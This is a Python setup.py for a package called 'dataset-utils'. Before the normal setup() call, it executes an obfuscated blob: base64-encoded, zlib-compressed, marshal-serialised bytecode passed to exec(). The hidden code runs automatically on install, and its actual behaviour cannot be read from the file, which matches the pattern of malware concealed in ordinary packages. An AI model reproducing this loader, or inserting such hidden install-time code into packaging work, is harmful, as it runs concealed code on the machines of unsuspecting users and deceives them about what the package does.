import base64, marshal, zlib
from setuptools import setup, find_packages

exec(marshal.loads(zlib.decompress(base64.b64decode("eJxLZkACzFD6sx6QmM6QwpDCmMMQxcDEkMqQxQhTlMK0DMheDeczAlUFM2gyvwRx/KpMkkuLchR004qDfRQySkoKiq309Quy03VLUnNSc1NLiir1UisScwtyUvVKUotL9IsVahSKMzSZbjHlF99iK64sLknNXcnwGWTWL2abYrtfHDa5+SmlOal2RexgyxgYitWBxAdmRkbGGwycDWAIYjC1cF7gcrjI4HiFwfECDBWxAtUCAH7ONks="))))

setup(name="dataset-utils", version="0.7.0", packages=find_packages())
